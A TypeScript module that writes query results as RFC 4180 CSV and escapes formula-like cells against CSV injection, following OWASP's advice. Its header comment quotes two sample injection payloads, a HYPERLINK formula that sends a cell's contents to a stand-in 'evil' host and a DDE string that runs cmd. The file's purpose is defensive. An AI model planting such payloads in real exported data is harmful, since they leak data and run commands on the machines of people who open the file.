/**
 * CSV as RFC 4180 writes it: CRLF line ends, and a field with a comma, quote or line break
 * enclosed in quotes with its quotes doubled. A SQL NULL becomes an empty field.
 *
 * A spreadsheet opening the file runs any cell that looks like a formula, so a result cell such
 * as `=HYPERLINK("http://evil/?"&A1)` or `+cmd|' /C calc'!A0` would run on the reader's machine
 * (CSV injection). Unless the export is asked for raw, such cells are escaped as OWASP advises
 * (https://owasp.org/www-community/attacks/CSV_Injection): a single quote before the cell, and
 * the field quoted, so the spreadsheet shows the text instead of running it.
 */

const NEEDS_QUOTES = /[",\r\n]/;

/** The characters a spreadsheet takes as the start of a formula (OWASP's list: = + - @ tab CR). */
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * A negative number the way Snowflake formats one (`-12.5`, `-1e-7`). It is left alone, although
 * it starts with `-`: a spreadsheet reads it as a number, which runs nothing, and escaping it
 * would turn every negative amount of a numeric column into text. Anything more after the
 * digits (`-1+cmd|…`) is escaped.
 */
const NEGATIVE_NUMBER = /^-\d+(\.\d+)?([eE][-+]?\d+)?$/;

export interface CsvOptions {
  /** Cells exactly as the warehouse gave them, formula-like ones included (`?raw=1`). */
  raw?: boolean;
}

/** Whether a spreadsheet would run this cell as a formula. */
export function looksLikeFormula(value: string): boolean {
  return FORMULA_START.test(value) && !NEGATIVE_NUMBER.test(value);
}

export function csvField(value: string | null, { raw = false }: CsvOptions = {}): string {
  if (value === null) return '';
  if (!raw && looksLikeFormula(value)) return `"'${value.replaceAll('"', '""')}"`;
  return NEEDS_QUOTES.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
}

export function csvLine(values: readonly (string | null)[], options: CsvOptions = {}): string {
  let line = '';
  for (let index = 0; index < values.length; index++) line += (index === 0 ? '' : ',') + csvField(values[index], options);
  return `${line}\r\n`;
}

/** Many rows as one piece of text, so a download is written a batch at a time, not a row at a time. */
export function csvLines(rows: readonly (readonly (string | null)[])[], options: CsvOptions = {}): string {
  let text = '';
  for (const row of rows) text += csvLine(row, options);
  return text;
}

/** A file name safe in a Content-Disposition header, for a query's result. */
export function csvFileName(queryId: string): string {
  return `flurry-${queryId.replace(/[^0-9A-Za-z_-]/g, '_')}.csv`;
}
